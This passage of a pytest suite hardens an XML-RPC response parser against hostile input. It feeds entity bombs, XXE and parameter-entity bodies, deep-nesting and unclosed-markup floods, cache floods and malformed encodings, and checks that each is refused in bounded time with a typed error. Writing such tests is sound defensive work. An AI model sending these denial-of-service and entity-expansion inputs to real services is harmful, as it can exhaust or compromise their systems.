    parser = ResponseParser(limits=Limits(max_bytes=1000))
    parser.feed(body)
    assert parser.close() == "x" * (1000 - len(string_response(b"")))


def test_max_bytes_refuses_one_byte_more_from_feed_not_close() -> None:
    body = padded_response(1001)
    parser = ResponseParser(limits=Limits(max_bytes=1000))
    with pytest.raises(
        ResponseTooLarge, match=r"exceeds 1000 bytes \(max_response_size; Limits.max_bytes"
    ):
        parser.feed(body)


def test_max_bytes_counts_across_feeds() -> None:
    body = padded_response(1001)
    parser = ResponseParser(limits=Limits(max_bytes=1000))
    parser.feed(body[:999])
    parser.feed(body[999:1000])
    assert parser.bytes_received == 1000
    with pytest.raises(ResponseTooLarge):
        parser.feed(body[1000:])


@pytest.mark.parametrize(
    "size", [pytest.param(1 << 20, id="1MiB-pieces"), pytest.param(4096, id="4KiB-pieces")]
)
def test_a_50mb_deep_nesting_body_is_refused_after_a_bounded_number_of_bytes(size: int) -> None:
    total = 50 * 1024 * 1024
    parser = ResponseParser()
    feeder = Feeder(parser)
    with pytest.raises(ResponseTooDeep):
        feeder.run(pieces(chain([HEAD], repeated(LEVEL_OPEN, total)), size))
    # The depth limit needs ~10 KB of this; a piece, plus a held run, is all it may read.
    assert feeder.fed <= size + 128 * 1024, feeder.fed
    assert parser.bytes_received == feeder.fed


# -- 8. Speed: hang detection, not benchmarking -----------------------------------------------

# A generous CPU budget. These inputs take milliseconds when the parser is linear; the
# budget only catches pathological (super-linear) behaviour, such as re-reading held text
# on every feed, which turns megabytes into minutes. Coverage tracing (CI runs the suite
# under it) slows Python code several times over: the budget grows to match.
CPU_BUDGET = 2.0 * (5 if sys.gettrace() is not None or "coverage" in sys.modules else 1)


def refused_within_budget(chunks: Iterable[bytes], expected: type[ResponseError]) -> int:
    """Feed ``chunks`` then close, expecting ``expected``; fail once over the CPU budget.

    Returns:
        How many bytes were fed.
    """
    feeder = Feeder(ResponseParser(), budget=CPU_BUDGET)
    start = time.process_time()
    with pytest.raises(expected):
        feeder.run(chunks)
    spent = time.process_time() - start
    assert spent < CPU_BUDGET, f"{spent:.1f} s of CPU for {feeder.fed} bytes"
    return feeder.fed


@pytest.mark.parametrize(
    "bomb",
    [
        pytest.param(billion_laughs, id="billion-laughs"),
        pytest.param(quadratic_blowup, id="quadratic-blowup"),
    ],
)
@pytest.mark.parametrize("size", [pytest.param(1 << 20, id="whole"), pytest.param(1, id="bytes")])
def test_entity_bombs_are_refused_within_the_cpu_budget(
    bomb: Callable[[], bytes], size: int
) -> None:
    refused_within_budget(pieces([bomb()], size), DTDForbidden)


@pytest.mark.parametrize(
    "size",
    [
        pytest.param(1 << 20, id="1MiB-pieces"),
        pytest.param(64 * 1024, id="64KiB-pieces"),
        pytest.param(4096, id="4KiB-pieces"),
        pytest.param(256, id="256B-pieces"),
        pytest.param(1, id="1B-pieces"),
    ],
)
def test_a_5mb_deep_nesting_attack_is_refused_within_the_cpu_budget(size: int) -> None:
    attack = chain([HEAD], repeated(LEVEL_OPEN, 5 * 1024 * 1024))
    refused_within_budget(pieces(attack, size), ResponseTooDeep)


def test_a_text_free_body_fed_in_small_pieces_is_parsed_within_the_cpu_budget() -> None:
    # 1 MB of empty arrays: every tag, no text. Linear work is ~65,000 feeds: 1.6-2.0 s
    # of CPU on Python 3.10 on a loaded two-core machine, so the budget here is twice
    # the usual; re-scanning each held run from its start costs ~40 times as much.
    empties = repeated(LEVEL_OPEN + LEVEL_CLOSE, 1 << 20)
    body = chain([HEAD, LEVEL_OPEN], empties, [LEVEL_CLOSE, TAIL])
    value = Feeder(ResponseParser(), budget=2 * CPU_BUDGET).run(pieces(body, 16))
    assert isinstance(value, list)
    assert len(value) > 20_000
    assert all(inner == [] for inner in value)


@pytest.mark.parametrize(
    "size",
    [
        pytest.param(1 << 20, id="whole"),
        pytest.param(1024, id="1KiB-pieces"),
        pytest.param(16, id="16B-pieces"),
    ],
)
def test_a_megabyte_inside_an_unclosed_value_is_refused_within_the_cpu_budget(size: int) -> None:
    attack = chain([HEAD + b"<value>"], repeated(b"x", 1 << 20))
    fed = refused_within_budget(pieces(attack, size), TruncatedResponse)
    assert fed > 1 << 20


@pytest.mark.parametrize(
    "size", [pytest.param(1 << 20, id="whole"), pytest.param(1024, id="1KiB-pieces")]
)
def test_a_megabyte_of_value_tags_is_refused_within_the_cpu_budget(size: int) -> None:
    attack = chain([HEAD], repeated(b"<value>", 1 << 20))
    refused_within_budget(pieces(attack, size), InvalidResponse)


UNCLOSED_MARKUP = [
    pytest.param(b"<!-- ", id="comment"),
    pytest.param(b"<![CDATA[", id="cdata"),
    pytest.param(b"<?pi ", id="processing-instruction"),
]


@pytest.mark.parametrize("opener", UNCLOSED_MARKUP)
def test_a_megabyte_of_unclosed_markup_in_large_pieces_is_refused_within_the_cpu_budget(
    opener: bytes,
) -> None:
    attack = chain([HEAD + b"<value>" + opener], repeated(b"<", 1 << 20))
    refused_within_budget(pieces(attack, 64 * 1024), MalformedXML)


@pytest.mark.parametrize("opener", UNCLOSED_MARKUP)
def test_unclosed_markup_fed_in_small_pieces_is_refused_within_the_cpu_budget(
    opener: bytes,
) -> None:
    # 4 MB in 1 KiB pieces: linear work is 4,096 feeds; quadratic work is ~30x the budget.
    attack = chain([HEAD + b"<value>" + opener], repeated(b"<", 4 << 20))
    refused_within_budget(pieces(attack, 1024), MalformedXML)


MANY_CONSTRUCTS = [
    pytest.param(b"a<!-- c -->", id="comments"),
    pytest.param(b"<![CDATA[x]]>", id="cdata-sections"),
    pytest.param(b"a<?p x?>", id="processing-instructions"),
    pytest.param(b"<!-- c --><?p x?>", id="both"),
]


@pytest.mark.parametrize("construct", MANY_CONSTRUCTS)
@pytest.mark.parametrize(
    "size", [pytest.param(1 << 20, id="1MiB-pieces"), pytest.param(4096, id="4KiB-pieces")]
)
def test_megabytes_of_small_constructs_in_text_are_read_within_the_cpu_budget(
    construct: bytes, size: int
) -> None:
    # 2 MB of them inside one string. Each searched the rest of its piece again for the
    # next "<?" or "<!": 3.4 MB of comments took 9.8 s of CPU.
    text = construct * ((2 << 20) // len(construct))
    body = HEAD + b"<value><string>" + text + b"</string></value>" + TAIL
    expected = xmlrpc.client.loads(body)[0][0]
    assert Feeder(ResponseParser(), budget=CPU_BUDGET).run(pieces([body], size)) == expected


# -- 9. No untyped exception ever leaks -------------------------------------------------------

#: ~60 varied broken bodies, hostile or just wrong, from all the sections above.
BROKEN: list[bytes] = [
    billion_laughs(),
    quadratic_blowup(),
    XXE,
    PARAMETER_ENTITY,
    b"<!DOCTYPE methodResponse SYSTEM 'x.dtd'>" + BODY,
    b"<!DOCTYPEx>" + BODY,
    b"<!doctype x>" + BODY,
    b'<!ENTITY x "y">' + BODY,
    string_response(b"&foo;"),
    string_response(b"&"),
    string_response(b"&#0;"),
    string_response(b"&#xD800;"),
    string_response(b"&#x110000;"),
    string_response(b"&#99999999999;"),
    string_response(b"a\x00b"),
    string_response(b"a\x1bb"),
    string_response(b"a\x0bb"),
    string_response(b"a\xff\xfeb"),
    string_response(b"\xc0\xaf"),
    VALID.rstrip() + b"\xe2\x82",
    b"<?xml version='1.0' encoding='utf-7'?>" + BODY,
    b"<?xml version='1.0' encoding='no-such-codec'?>" + BODY,
    b"<?xml version='1.0' encoding='utf-16'?>" + BODY,
    "<!DOCTYPE x>".encode("utf-32"),
    b"\x00<\x00m",
    b"<methodResponse><params>",
    VALID + BODY,
    VALID + b"junk",
    b"junk" + BODY,
    string_response(b"a < b"),
    b"<methodResponse a=b>" + BODY[16:],
    b'<methodResponse a="1" a="2">' + BODY[16:],
    VALID.replace(b"</int>", b'</int a="1">'),
    VALID + b"<!-- a -- b -->",
    VALID.replace(b"<params>", b"<?xml version='1.0'?><params>"),
    b"<![CDATA[x]]>" + BODY,
    response(b"<foo>1</foo>"),
    response(b"<boolean>2</boolean>"),
    response(b"<int>abc</int>"),
    response(b"<int>1.5</int>"),
    response(b"<double>x</double>"),
    response(b"<double>1,5</double>"),
    response(b"<bigdecimal>1..2</bigdecimal>"),
    response(b"<base64>QQ=</base64>"),
    response(b"<dateTime.iso8601><i4>1</i4></dateTime.iso8601>"),
    response(b"<nil>x</nil>"),
    response(b"<struct><member><value>1</value></member></struct>"),
    response(b"<struct><member><name>a</name><name>b</name></member></struct>"),
    b"<methodResponse><fault><value><struct></struct></value></fault></methodResponse>",
    b"<methodResponse><fault><value><int>1</int></value></fault></methodResponse>",
    b"<methodCall><methodName>x</methodName></methodCall>",
    b"<methodResponse><params>junk<param><value>1</value></param></params></methodResponse>",
    nested(600),
    RICH[: len(RICH) // 2],
    b"",
]

UNTYPED = (
    KeyError,
    TypeError,
    IndexError,
    AttributeError,
    UnicodeError,
    RecursionError,
    ArithmeticError,
    AssertionError,
    RuntimeError,
    MemoryError,
)


def parse_loads(body: bytes) -> object:
    return loads(body)


#: What ``loads`` accepts, as ``xmlrpc.client.loads`` does: a call.
LOADS_ACCEPTS = {
    b"<methodCall><methodName>x</methodName></methodCall>",
}


def parse_with_builtin_types(body: bytes) -> object:
    return parse_response(body, use_builtin_types=True)


@pytest.mark.parametrize(
    "parse",
    [
        *SPLITS,
        pytest.param(parse_in_sevens, id="seven-byte-pieces"),
        pytest.param(parse_with_builtin_types, id="use-builtin-types"),
        pytest.param(parse_loads, id="loads"),
    ],
)
def test_broken_bodies_only_ever_raise_response_errors(parse: Callable[[bytes], object]) -> None:
    assert len(BROKEN) >= 40
    for index, body in enumerate(BROKEN):
        if parse is parse_loads and body in LOADS_ACCEPTS:
            assert loads(body)
            continue
        exc = error_from(lambda: parse(body))  # noqa: B023 - called at once
        where = f"body #{index} {body[:60]!r}: {type(exc).__name__}: {exc}"
        if isinstance(exc, Fault):
            continue  # loads() is given no fault here, but a fault would be fine
        assert not isinstance(exc, UNTYPED), where
        # Never a bare ExpatError or builtin: those are only ever mixed into our classes.
        bases = type(exc).__mro__
        assert type(exc).__module__.startswith("aioxmlrpc"), where
        assert xmlrpc.client.ResponseError in bases, where
        if ValueError in bases:  # defusedxml's errors are ValueErrors, and a bad value is
            assert UnsafeXML in bases or InvalidValue in bases, where
        if ExpatError in bases:
            assert MalformedXML in bases, where


def test_a_valid_fault_raises_fault_and_nothing_else() -> None:
    fault = xmlrpc.client.dumps(xmlrpc.client.Fault(4, "Too many parameters")).encode()
    for parse in (parse_whole, parse_bytewise, parse_loads):
        exc = error_from(lambda: parse(fault))  # noqa: B023 - called at once
        assert type(exc) is Fault
        assert isinstance(exc, xmlrpc.client.Fault)
        assert (exc.faultCode, exc.faultString) == (4, "Too many parameters")


# -- 10. Nothing leaks from one parse into the next -------------------------------------------


def test_a_valid_body_parses_after_each_hostile_one() -> None:
    # The plan cache is global: a hostile document must not poison the next parse.
    for index, body in enumerate(BROKEN):
        for parse in (parse_whole, parse_bytewise):
            error_from(lambda: parse(body))  # noqa: B023 - called at once
            assert parse_response(VALID) == VALID_VALUE, index
            assert parse_response(RICH) == RICH_VALUE, index


def test_a_parser_that_failed_does_not_affect_a_new_one() -> None:
    broken = ResponseParser()
    with pytest.raises(InvalidResponse):
        broken.feed(response(b"<struct><member><value>1</value></member></struct>"))
    fresh = ResponseParser()
    fresh.feed(RICH[:100])
    fresh.feed(RICH[100:])
    assert fresh.close() == RICH_VALUE


def test_flooding_the_plan_cache_does_not_break_later_parses() -> None:
    # Thousands of distinct runs (attributes) and states (namespace prefixes): more than
    # the cache keeps. Prefixes and attributes are ignored, so the document is valid.
    members = b"".join(
        b"<member n%d='1'><name>k%d</name><p%d:value><p%d:int>%d</p%d:int></p%d:value></member>"
        % (i, i, i, i, i, i, i)
        for i in range(5000)
    )
    flood = response(b"<struct>" + members + b"</struct>")
    value = parse_response(flood)
    assert isinstance(value, dict)
    assert len(value) == 5000
    assert value["k4999"] == 4999
    assert parse_response(VALID) == VALID_VALUE
    assert parse_bytewise(RICH) == RICH_VALUE
    assert_raises_exactly(ResponseTooDeep, lambda: parse_response(nested(513)))


def test_plans_cached_under_generous_limits_do_not_bypass_stricter_ones() -> None:
    assert depth_of(parse_response(nested(600), limits=Limits(max_depth=1000))) == 600
    assert_raises_exactly(ResponseTooDeep, lambda: parse_response(nested(513)), "deeper than 512")
    assert depth_of(parse_response(nested(6), limits=Limits(max_depth=10))) == 6
    assert_raises_exactly(
        ResponseTooDeep,
        lambda: parse_response(nested(6), limits=Limits(max_depth=5)),
        "deeper than 5",
    )
    assert_raises_exactly(
        ResponseTooDeep, lambda: parse_bytewise_limited(nested(6), Limits(max_depth=5))
    )


def parse_bytewise_limited(body: bytes, limits: Limits) -> object:
    return Feeder(ResponseParser(limits=limits)).run(one_byte_at_a_time(body))
